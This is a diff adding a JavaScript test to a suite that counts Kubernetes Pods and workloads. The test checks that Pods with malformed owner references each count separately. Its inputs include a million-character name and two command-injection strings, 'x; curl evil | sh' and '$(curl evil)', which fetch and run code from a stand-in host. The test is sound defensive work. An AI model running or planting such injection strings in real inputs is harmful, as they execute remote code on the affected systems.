@@ -29,3 +29,11 @@ it('counts Pods and workloads, and a Deployment once during a rollout', () => {
     'shop/own': { pods: 1, workloads: 1 },
   })
 })
+
+it('counts a Pod whose owner no controller can be as a Pod of its own', () => {
+  const users = countUsers()
+  users.add(pod('a', ['ReplicaSet', 'x'.repeat(1_000_000)]), ['/logging'])
+  users.add(pod('b', ['ReplicaSet', 'x; curl evil | sh']), ['/logging'])
+  users.add(pod('c', ['$(curl evil)', 'x']), ['/logging'])
+  expect(Object.fromEntries(users.result())).toEqual({ '/logging': { pods: 3, workloads: 3 } })
+})
